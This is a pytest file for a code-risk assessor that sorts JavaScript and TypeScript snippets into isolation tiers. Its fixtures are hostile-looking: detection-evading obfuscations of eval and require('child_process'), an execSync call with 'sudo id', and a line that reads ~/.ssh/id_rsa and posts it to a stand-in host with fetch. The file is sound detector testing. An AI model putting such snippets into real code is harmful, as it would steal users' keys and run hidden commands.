"""JavaScript and TypeScript are judged by what they load, call and name."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from audit.risk.assessor import assess

ROOT = Path(__file__).parents[3]
EXAMPLES = [
    line.split(" %% ")
    for line in (ROOT / "tests" / "data" / "risk" / "javascript-rules.txt").read_text().strip().splitlines()
]


def rules(code: str) -> set[str]:
    return {found.rule for found in assess(code.encode(), "javascript").findings}


@pytest.mark.parametrize(("rule", "matching", "other"), EXAMPLES)
def test_each_rule_matches_its_example_and_not_its_neighbour(rule: str, matching: str, other: str) -> None:
    assert rule in rules(matching)
    assert rule not in rules(other)


def test_each_rule_has_an_example() -> None:
    table = json.loads((ROOT / "audit" / "risk" / "rules" / "javascript.json").read_text())
    assert {entry["id"] for entry in table["rules"]} == {rule for rule, _, _ in EXAMPLES}


def test_computing_is_harmless() -> None:
    judged = assess(b"const xs = [1, 2, 3].map(x => x * 2); console.log(Math.max(...xs))", "javascript")
    assert (judged.tier, judged.score) == ("L0", 0)


def test_comments_and_texts_are_no_code() -> None:
    code = b"// require('child_process').exec('id')\nconsole.log('eval(1) is bad')"
    assert assess(code, "javascript").findings == ()


def test_a_command_in_a_string_is_judged_as_shell() -> None:
    judged = assess(b"require('child_process').execSync('sudo id')", "javascript")
    assert judged.tier == "L3"
    found = next(found for found in judged.findings if found.rule == "sh.priv.root")
    assert found.snippet == "require('child_process').execSync('sudo id')"


@pytest.mark.parametrize(
    "code",
    [
        "eval('1')",
        "const go = eval; go('1')",
        "new Function('return 1')()",
        "[].constructor.constructor('return 1')()",
        "require(name)",
        "require('child_' + 'process')",
        "import('node:vm')",
        "globalThis.eval('1')",
    ],
)
def test_code_from_text_needs_the_strongest_isolation(code: str) -> None:
    assert assess(code.encode(), "javascript").tier == "L3"


@pytest.mark.parametrize(
    "code",
    [
        "const c = 'constructor'; [][c][c]('return 1')()",
        "globalThis[['e', 'v', 'a', 'l'].join('')]('1')",
        "globalThis['lave'.split('').reverse().join('')]('1')",
        "(0, eval)('1')",
        "const m = 'child_process'; require(m).execSync('id')",
        "const { execSync: run } = require('child_process'); run('sudo id')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).execSync(process.argv[2])",
        "require(Buffer.from('766d', 'hex').toString())",
        "process[name]",
    ],
)
def test_names_in_pieces_do_not_hide_what_is_reached(code: str) -> None:
    assert assess(code.encode(), "javascript").tier == "L3"


@pytest.mark.parametrize(
    ("code", "tier"),
    [
        ("const key = 'name'; console.log(row[key], rows[i + 1])", "L0"),
        ("const handlers = { a: () => 1 }; handlers[word]()", "L0"),
        ("/a+/.exec('caat')", "L0"),
        ("import { join } from 'node:path'; console.log(join('a', 'b'))", "L0"),
        ("const { execFileSync } = require('child_process'); execFileSync('git', ['status'])", "L2"),
        ("require('child_process').spawn('node', ['build.js'])", "L2"),
    ],
)
def test_looking_things_up_by_name_is_no_secret(code: str, tier: str) -> None:
    assert assess(code.encode(), "javascript").tier == tier


def test_a_key_that_is_read_and_sent_is_theft() -> None:
    code = "const k = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`); fetch('https://x.example.net/', { body: k })"
    judged = assess(f"import os from 'os'; import fs from 'fs'; {code}".encode(), "javascript")
    assert (judged.tier, judged.band) == ("L3", "critical")
    assert {"js.sensitive", "js.both.secret.net"} <= {found.rule for found in judged.findings}


def test_types_do_not_hide_what_is_called() -> None:
    code = "import { execSync } from 'child_process';\nconst x: string = execSync('id').toString();"
    assert assess(code.encode(), "typescript").tier == "L3"
